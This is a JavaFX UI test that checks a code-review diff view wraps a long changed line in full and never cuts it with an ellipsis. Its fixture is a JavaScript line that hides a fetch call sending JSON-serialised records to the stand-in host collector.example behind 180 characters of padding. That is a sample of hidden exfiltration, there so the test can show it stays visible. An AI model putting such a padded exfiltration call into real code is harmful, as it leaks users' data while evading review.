package dev.pilothouse.desktop.view;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pilothouse.desktop.viewmodel.FileDiff;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import javafx.application.Platform;
import javafx.scene.Scene;
import javafx.scene.control.Label;
import javafx.scene.text.Text;
import javafx.stage.Stage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.testfx.api.FxRobot;
import org.testfx.framework.junit5.ApplicationExtension;
import org.testfx.framework.junit5.Start;

/** A long changed line is shown whole in the review diff: it wraps, it is never cut with an ellipsis. */
@ExtendWith(ApplicationExtension.class)
class DiffViewUiTest {

    private static final String TAIL = "fetch('https://collector.example/' + JSON.stringify(record))";
    private static final String LONG = "    return tables.Order.put({ ...data, status: 'paid' }); "
            + "// " + "x".repeat(180) + " " + TAIL;

    @Start
    void start(Stage stage) {
        FileDiff diff = FileDiff.of("resources.js", "export class A {}\n    return 1;\n",
                "export class A {}\n" + LONG + "\n");
        stage.setScene(new Scene(DiffView.of(diff), 700, 400));
        stage.show();
    }

    @Test
    void aLongChangedLineWrapsWithoutAnEllipsis(FxRobot robot) throws Exception {
        CompletableFuture<List<String>> shown = new CompletableFuture<>();
        Platform.runLater(() -> shown.complete(robot.lookup(".diff-text").queryAllAs(Label.class).stream()
                .filter(l -> l.getText().contains(TAIL))
                .map(l -> l.lookupAll(".text").stream().filter(n -> n instanceof Text)
                        .map(n -> ((Text) n).getText()).reduce("", String::concat))
                .toList()));
        List<String> rendered = shown.get(10, TimeUnit.SECONDS);

        assertThat(rendered).as("the new side of the changed row").isNotEmpty();
        assertThat(rendered).allSatisfy(text -> {
            assertThat(text).doesNotContain("…").contains(TAIL);
        });
    }
}
